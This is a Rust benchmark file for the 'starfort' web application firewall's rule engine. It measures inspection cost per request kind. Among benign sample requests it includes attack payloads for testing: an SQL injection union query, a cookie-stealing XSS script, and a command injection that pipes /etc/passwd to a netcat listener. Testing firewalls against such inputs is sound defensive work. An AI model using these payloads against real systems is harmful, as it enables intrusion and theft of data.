//! What rules cost a request: ns, by kind of request. `STARFORT_RULES` names a file of compiled rules
//! (`starfort rules compile`, or `load_rules` of `starfort.threats.seclang`).

use std::hint::black_box;
use std::net::{IpAddr, Ipv4Addr};

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use starfort_engine::client::geo::GeoRecord;
use starfort_engine::rules::{Collections, Environment, Inspection, Request, Response, Rules};

type Headers = Vec<(&'static [u8], Vec<u8>)>;

struct Case {
    name: &'static str,
    method: &'static str,
    uri: String,
    content_type: &'static str,
    body: Vec<u8>,
}

fn case(
    name: &'static str,
    method: &'static str,
    uri: &str,
    content_type: &'static str,
    body: &str,
) -> Case {
    Case {
        name,
        method,
        uri: uri.to_owned(),
        content_type,
        body: body.as_bytes().to_vec(),
    }
}

fn cases() -> Vec<Case> {
    let order = r#"{"order":{"id":"9f2c1a","customer":{"name":"Ada Lovelace","email":"ada@example.com"},"items":[{"sku":"KB-101","quantity":2,"price":49.9},{"sku":"MS-7","quantity":1,"price":19.5}],"address":{"street":"12 St James's Square","city":"London","zip":"SW1Y 4JH"},"note":"Please leave at the front desk, thanks","gift":false,"currency":"GBP","created":"2026-01-02T03:04:05Z"}}"#;
    let item = r#"{"id":12345,"title":"A plain title of a thing","tags":["red","blue"],"description":"Some ordinary text of medium length, with commas and a full stop.","price":12.5},"#;
    let large = format!("[{}{{}}]", item.repeat(64 * 1024 / item.len()));
    vec![
        case(
            "get",
            "GET",
            "/api/v1/orders?status=open&page=2&sort=-created",
            "",
            "",
        ),
        case("json", "POST", "/api/v1/orders", "application/json", order),
        case(
            "json_64k",
            "POST",
            "/api/v1/import",
            "application/json",
            &large,
        ),
        case(
            "form",
            "POST",
            "/login",
            "application/x-www-form-urlencoded",
            "username=ada%40example.com&password=correct+horse&remember=on&next=%2Faccount",
        ),
        case(
            "sqli",
            "GET",
            "/api/v1/orders?id=1%27%20or%20%271%27=%271%27%20union%20select%20password%20from%20users--",
            "",
            "",
        ),
        case(
            "xss",
            "POST",
            "/comment",
            "application/x-www-form-urlencoded",
            "text=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        ),
        case(
            "rce",
            "POST",
            "/api/v1/ping",
            "application/json",
            r#"{"host":"127.0.0.1; cat /etc/passwd | nc 10.0.0.1 4444"}"#,
        ),
    ]
}

fn headers(case: &Case) -> Headers {
    let mut headers: Headers = vec![
        (b"host", b"api.example.com".to_vec()),
        (b"user-agent", b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36".to_vec()),
        (b"accept", b"application/json, text/plain, */*".to_vec()),
        (b"accept-encoding", b"gzip, deflate, br".to_vec()),
        (b"accept-language", b"en-GB,en;q=0.9".to_vec()),
        (b"authorization", b"Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJl".to_vec()),
        (b"cookie", b"session=4f1c9a7be2d84c0f; theme=dark".to_vec()),
        (b"x-request-id", b"7b1a4a52-0c59-4c43-9f0e-3f7a5d1f9a11".to_vec()),
    ];
    if !case.body.is_empty() {
        headers.push((b"content-type", case.content_type.as_bytes().to_vec()));
        headers.push((b"content-length", case.body.len().to_string().into_bytes()));
    }
    headers
}

const ANSWER: &[u8] =
    br#"{"orders":[{"id":"9f2c1a","status":"open","total":119.3}],"page":2,"pages":7}"#;

fn inspect(environment: Environment<'_>, case: &Case, headers: &[(&[u8], &[u8])]) -> i64 {
    let request = Request {
        method: case.method.as_bytes(),
        uri: case.uri.as_bytes(),
        protocol: b"HTTP/1.1",
        headers,
        remote_addr: IpAddr::V4(Ipv4Addr::new(192, 0, 2, 7)),
        remote_port: 40_000,
        server_addr: None,
        server_port: 443,
        unique_id: b"7b1a4a52-0c59-4c43-9f0e-3f7a5d1f9a11",
    };
    let mut inspection = Inspection::begin(environment, &request, GeoRecord::default());
    inspection.request_headers(environment);
    inspection.request_body(environment, &case.body, false);
    let head: [(&[u8], &[u8]); 1] = [(b"content-type", b"application/json")];
    let response = Response {
        status: 200,
        protocol: b"HTTP/1.1",
        reason: b"OK",
        headers: &head,
    };
    inspection.response_headers(environment, &response);
    inspection.response_body(environment, Some(ANSWER));
    inspection.finish(environment);
    inspection.score(environment)
}

fn bench(criterion: &mut Criterion) {
    let Some(path) = std::env::var_os("STARFORT_RULES") else {
        eprintln!("skipped: set STARFORT_RULES to a file of compiled rules");
        return;
    };
    let compiled = match std::fs::read(&path) {
        Ok(compiled) => compiled,
        Err(error) => return eprintln!("skipped: {}: {error}", path.display()),
    };
    let rules = match Rules::new(&compiled) {
        Ok(rules) => rules,
        Err(error) => return eprintln!("skipped: {error}"),
    };
    let collections = Collections::default();
    let Some(environment) = rules.environment(&collections, 1_767_323_045_000_000) else {
        return eprintln!("skipped: there are no rules");
    };
    let mut group = criterion.benchmark_group("rules");
    for case in cases() {
        let owned = headers(&case);
        let borrowed: Vec<(&[u8], &[u8])> = owned
            .iter()
            .map(|(name, value)| (*name, value.as_slice()))
            .collect();
        let score = inspect(environment, &case, &borrowed);
        eprintln!("{}: score {score}", case.name);
        group.throughput(Throughput::Elements(1));
        group.bench_function(case.name, |bencher| {
            bencher.iter(|| black_box(inspect(environment, black_box(&case), &borrowed)));
        });
    }
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
